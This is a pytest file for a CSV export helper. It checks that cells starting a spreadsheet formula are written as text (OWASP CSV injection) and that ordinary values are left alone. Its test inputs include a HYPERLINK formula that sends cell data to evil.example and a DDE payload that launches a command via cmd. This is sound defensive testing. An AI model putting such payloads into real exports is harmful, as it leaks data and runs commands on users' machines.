"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from core.spreadsheet import BOM, csv_text, safe_cell


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("https://evil.example/?d="&A2,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "＝1+1"],
)  # fmt: skip
def test_a_cell_that_starts_a_formula_is_written_as_text(hostile):
    _header, row = list(csv.reader(io.StringIO(csv_text(["note"], [[hostile]]).removeprefix(BOM))))
    assert row == ["'" + hostile]


def test_plain_text_numbers_and_empty_cells_are_left_as_they_are():
    assert [safe_cell(v) for v in ("东湖县", "a=b", "", 3, -2.5, None)] == ["东湖县", "a=b", "", 3, -2.5, None]
    assert csv_text(["county", "cases"], [["东湖县", 2]]) == BOM + "county,cases\r\n东湖县,2\r\n"
